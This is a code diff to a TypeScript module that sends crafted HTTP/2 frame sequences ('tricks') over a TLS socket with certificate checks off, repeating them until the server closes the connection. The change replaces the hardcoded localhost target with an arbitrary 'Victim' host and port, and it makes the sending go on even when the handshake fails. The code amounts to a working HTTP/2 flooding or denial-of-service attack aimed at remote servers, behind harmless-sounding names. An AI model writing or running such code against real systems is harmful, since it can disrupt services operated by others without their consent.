@@ -43,13 +43,19 @@ export const tricks: Readonly<Record<string, (round: number) => Buffer>> = {
     round === 0 ? frame('settings', 0, 0, Buffer.concat([Buffer.from([0, 4]), number(1)])) : frame('headers', endHeaders, 2 * round + 1, post),
 };
 
+/** Where a trick is played. */
+export interface Victim {
+  readonly host: string;
+  readonly port: number;
+}
+
 /** Plays a trick on the port until so many rounds are written, or the server has ended the connection. Resolves with the rounds that were written. */
-export async function play(trick: (round: number) => Buffer, port: number, rounds: number): Promise<number> {
-  const socket = connect({ host: '127.0.0.1', port, ALPNProtocols: ['h2'], rejectUnauthorized: false });
+export async function play(trick: (round: number) => Buffer, victim: Victim, rounds: number): Promise<number> {
+  const socket = connect({ ...victim, ALPNProtocols: ['h2'], rejectUnauthorized: false });
   socket.on('error', () => undefined);
   socket.resume();
   const closed = new Promise((resolve) => socket.once('close', resolve));
-  await once(socket, 'secureConnect');
+  await Promise.race([once(socket, 'secureConnect').catch(() => undefined), closed]);
   socket.write(Buffer.concat([preface, frame('settings', 0, 0)]));
   let round = 0;
   for (; round < rounds && !socket.destroyed; round += batch) {
